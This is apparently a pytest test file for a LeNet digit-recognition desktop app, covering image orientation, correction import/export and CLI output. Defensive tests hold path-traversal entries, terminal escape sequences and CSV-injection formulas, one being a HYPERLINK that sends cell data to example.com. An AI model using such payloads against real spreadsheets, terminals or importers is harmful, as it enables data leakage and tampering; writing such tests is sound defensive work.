"""Images and listings from outside, and the CLI's pipes and folders."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
import threading

import numpy as np
import pytest
from digit_strokes import DIGITS, render_strokes
from filesystems import small_disk
from PIL import Image

from lenet_desktop.cli import main
from lenet_desktop.core.checkpoint import load_checkpoint
from lenet_desktop.core.images import load_image
from lenet_desktop.core.paths import shipped_weights_path, user_data_dir
from lenet_desktop.core.predict import recognise
from lenet_desktop.core.store import EXPORT_CSV, CorrectionStore, StoreError, default_store_path

ORIENTATION = 0x0112


def _upright_seven() -> Image.Image:
    # Not square, so that a reader ignoring the orientation also gets the shape wrong.
    picture = render_strokes(DIGITS[7][0])
    return Image.fromarray(np.pad(picture, ((0, 0), (40, 40)), constant_values=255))


def _as_a_phone_stores_it(path, upright: Image.Image) -> None:
    """Orientation 6: the pixels are stored turned a quarter anticlockwise; viewers turn them back."""
    exif = Image.Exif()
    exif[ORIENTATION] = 6
    upright.convert("RGB").transpose(Image.Transpose.ROTATE_90).save(path, exif=exif.tobytes(), quality=95)


def test_a_photo_with_an_exif_orientation_is_read_upright(tmp_path):
    upright = _upright_seven()
    _as_a_phone_stores_it(tmp_path / "phone.jpg", upright)
    read = load_image(tmp_path / "phone.jpg")
    assert read.shape == np.asarray(upright).shape
    assert np.abs(read.astype(int) - np.asarray(upright, dtype=int)).mean() < 3  # JPEG's loss only
    assert recognise(load_checkpoint(shipped_weights_path()), read).digit == 7


def _listing(folder, *rows: str) -> None:
    (folder / EXPORT_CSV).write_text("file,label\n" + "\n".join(rows) + "\n")


def test_an_import_stores_a_rotated_photo_upright_and_a_16_bit_tiff_as_8_bit_png(tmp_path):
    folder = tmp_path / "import"
    folder.mkdir()
    _as_a_phone_stores_it(folder / "phone.jpg", _upright_seven())
    seven = render_strokes(DIGITS[7][1]).astype(np.float32)
    Image.fromarray((seven * 257).astype(np.uint16)).save(folder / "wide.tif")  # mode I;16
    one = render_strokes(DIGITS[1][1]).astype(np.float32)
    Image.fromarray(one / 255).save(folder / "float.tif")  # mode F
    _listing(folder, "phone.jpg,7", "wide.tif,7", "float.tif,1", "after.png,3")
    Image.fromarray(render_strokes(DIGITS[3][0])).save(folder / "after.png")
    with CorrectionStore(tmp_path / "c.db") as store:
        result = store.import_folder(folder)
        assert result.refused == [] and result.added == 4
        stored = store.all()
    phone = stored[0].drawing()
    assert phone.shape == np.asarray(_upright_seven()).shape
    assert np.abs(phone.astype(int) - np.asarray(_upright_seven(), dtype=int)).mean() < 3
    for tiff, picture in zip(stored[1:3], (seven, one)):
        assert np.abs(tiff.drawing().astype(int) - picture.astype(int)).max() <= 1
    assert [c.label for c in stored] == [7, 7, 1, 3]


def test_an_import_reads_only_regular_files_inside_its_folder(tmp_path):
    secret = tmp_path / "elsewhere" / "secret.png"
    secret.parent.mkdir()
    Image.fromarray(render_strokes(DIGITS[4][0])).save(secret)
    folder = tmp_path / "import"
    folder.mkdir()
    Image.fromarray(render_strokes(DIGITS[2][0])).save(folder / "good.png")
    (folder / "link.png").symlink_to(secret)
    os.mkfifo(folder / "fifo.png")
    _listing(
        folder, f"{secret},4", "../elsewhere/secret.png,4", "link.png,4", "/dev/zero,1", "fifo.png,1", "good.png,2"
    )
    done = []

    def import_it() -> None:  # in its own thread, with its own connection, as a store is used
        with CorrectionStore(tmp_path / "c.db") as store:
            done.append(store.import_folder(folder))

    worker = threading.Thread(target=import_it, daemon=True)
    worker.start()
    worker.join(timeout=60)  # a FIFO used to block the import forever
    assert done, "the import hung"
    with CorrectionStore(tmp_path / "c.db") as store:
        assert [c.label for c in store.all()] == [2]
    (result,) = done
    assert result.added == 1 and len(result.refused) == 5
    assert sum("outside the imported folder" in str(reason) for reason in result.refused) == 4  # /dev/zero too
    assert any("fifo.png: not a regular file" in str(reason) for reason in result.refused)


def test_an_export_into_a_folder_that_is_not_empty_is_refused_and_the_earlier_export_stays(tmp_path):
    folder = tmp_path / "export"
    with CorrectionStore(tmp_path / "a.db") as first:
        for digit in range(10):
            first.add(render_strokes(DIGITS[digit][0]), digit)
        assert first.export(folder) == 10
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    with CorrectionStore(tmp_path / "b.db") as second:
        second.add(render_strokes(DIGITS[1][0]), 1)
        with pytest.raises(StoreError, match="not empty; export into a new or empty folder"):
            second.export(folder)
        assert second.export(tmp_path / "new") == 1
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before


def test_the_cli_refuses_an_export_into_a_folder_that_is_not_empty(tmp_path, capsys):
    with CorrectionStore(default_store_path(user_data_dir())) as store:
        store.add(render_strokes(DIGITS[1][0]), 1)
    (tmp_path / "notes.txt").write_text("mine")
    assert main(["corrections", "export", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert err == f"lenet-desktop: error: {tmp_path}: not empty; export into a new or empty folder\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["notes.txt"]


def test_the_cli_refuses_an_export_onto_a_file_saying_it_is_no_folder(tmp_path, capsys):
    """It said "File exists" (mkdir's reason), which does not say what is wrong; the file stays."""
    with CorrectionStore(default_store_path(user_data_dir())) as store:
        store.add(render_strokes(DIGITS[1][0]), 1)
    (tmp_path / "notes.txt").write_text("mine")
    assert main(["corrections", "export", str(tmp_path / "notes.txt")]) == 2
    err = capsys.readouterr().err
    assert err == f"lenet-desktop: error: {tmp_path / 'notes.txt'}: not a folder; export into a new or empty folder\n"
    assert (tmp_path / "notes.txt").read_text() == "mine"


def test_predict_on_a_folder_says_it_is_a_folder(tmp_path, capsys):
    assert main(["predict", str(tmp_path)]) == 1
    assert capsys.readouterr().err.splitlines()[-1] == f"lenet-desktop: {tmp_path}: is a folder, not an image"


@pytest.mark.parametrize(
    "command",
    [
        ["predict", *[str(shipped_weights_path().parent / "samples" / f"digit_{d}.png") for d in range(10)] * 40],
        ["corrections", "list"],
    ],
    ids=["predict", "corrections-list"],
)
def test_output_piped_into_head_ends_quietly(command):
    with CorrectionStore(default_store_path(user_data_dir())) as store:
        for number in range(300):
            store.add(render_strokes(DIGITS[number % 10][0]), number % 10)
    pipeline = subprocess.run(
        ["bash", "-c", 'set -o pipefail; "$0" -m lenet_desktop "$@" | head -1', sys.executable, *command],
        capture_output=True,
        text=True,
        env=dict(os.environ),
        timeout=300,
    )
    assert len(pipeline.stdout.splitlines()) == 1
    # No "Broken pipe", no traceback: at most the line that says which model reads.
    assert [line for line in pipeline.stderr.splitlines() if not line.startswith("lenet-desktop: model ")] == []
    assert pipeline.returncode in (0, 141)  # 141: ended as SIGPIPE ends a Unix tool


def test_the_cli_escapes_control_characters_from_stored_and_imported_fields(tmp_path, capsys):
    """A model name holding ESC [2J cleared the terminal when `corrections list` printed it, and a
    carriage return let a name overwrite the line it was on."""
    with CorrectionStore(default_store_path(user_data_dir())) as store:
        store.add(render_strokes(DIGITS[4][0]), 4, model_name="mine\x1b[2J\rfake", model_version="v\u202e1")
    assert main(["corrections", "list"]) == 0
    listed = capsys.readouterr().out
    assert "model said -  mine\\x1b[2J\\rfake v\\u202e1\n" in listed, listed
    (tmp_path / "import").mkdir()
    (tmp_path / "import" / EXPORT_CSV).write_text("file,label\nbell\x07.png,3\n")
    assert main(["corrections", "import", str(tmp_path / "import")]) == 1
    skipped = capsys.readouterr().err
    assert f"{tmp_path / 'import'}/bell\\x07.png: no such file" in skipped, skipped
    for shown in (listed, skipped):
        assert not any(ord(c) < 32 and c != "\n" for c in shown)


def test_an_image_in_memory_is_read_as_a_file_is(tmp_path):
    """For paste and drop: the same reader, its orientation, its limit and its one-line errors."""
    from lenet_desktop.core.images import ImageError, image_from_bytes

    _as_a_phone_stores_it(tmp_path / "phone.jpg", _upright_seven())
    assert np.array_equal(
        image_from_bytes((tmp_path / "phone.jpg").read_bytes(), "pasted image"), load_image(tmp_path / "phone.jpg")
    )
    with pytest.raises(ImageError, match="^pasted image: not an image this app can read$"):
        image_from_bytes(b"hello", "pasted image")


# Cells a spreadsheet would run as formulas (OWASP's CSV injection starts), and one already quoted.
FORMULAS = ('=HYPERLINK("http://example.com/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "'=quoted")


def test_an_export_holds_no_formula_and_imports_back_as_it_was(tmp_path):
    """A model name or an imported field such as =HYPERLINK(...) was exported as it was, a live
    formula once the CSV opened in a spreadsheet."""
    with CorrectionStore(tmp_path / "a.db") as source:
        for digit, text in enumerate(FORMULAS):
            source.add(
                render_strokes(DIGITS[digit][0]), digit, digit, 0.5, text, text[::-1], created=f"{text}2026-01-01"
            )
        source.export(tmp_path / "export")
        before = [(c.label, c.predicted, c.confidence, c.model_name, c.model_version, c.created) for c in source.all()]
    with open(tmp_path / "export" / EXPORT_CSV, newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert f"'{FORMULAS[0]}" in cells and f"'{FORMULAS[-1]}" in cells
    with CorrectionStore(tmp_path / "b.db") as target:
        assert target.import_folder(tmp_path / "export").refused == []
        after = [(c.label, c.predicted, c.confidence, c.model_name, c.model_version, c.created) for c in target.all()]
    assert after == before


def test_an_export_onto_a_full_disk_leaves_nothing_names_the_folder_and_keeps_the_earlier_export(tmp_path):
    """It said only "No space left on device", and left hundreds of drawings and a listing cut mid-row."""
    noise = np.random.default_rng(0).integers(0, 256, (280, 280), dtype=np.uint8)  # a PNG that does not shrink
    with small_disk(tmp_path / "disk", size="256k") as disk:
        with CorrectionStore(tmp_path / "earlier.db") as earlier:
            earlier.add(render_strokes(DIGITS[3][0]), 3)
            earlier.export(disk / "earlier")
        kept = {p.name: p.read_bytes() for p in (disk / "earlier").iterdir()}
        (disk / "empty").mkdir()
        with CorrectionStore(tmp_path / "c.db") as store:
            for digit in range(10):
                store.add(np.roll(noise, digit), digit, frame=np.zeros((32, 32), np.float32))
            for target in (disk / "new" / "export", disk / "empty"):
                with pytest.raises(StoreError) as error:
                    store.export(target)
                message = str(error.value)
                assert message.startswith(f"{target}: not exported (No space left on device)"), message
                assert "\n" not in message
        assert sorted(p.name for p in disk.iterdir()) == ["earlier", "empty"]
        assert list((disk / "empty").iterdir()) == []
        assert {p.name: p.read_bytes() for p in (disk / "earlier").iterdir()} == kept
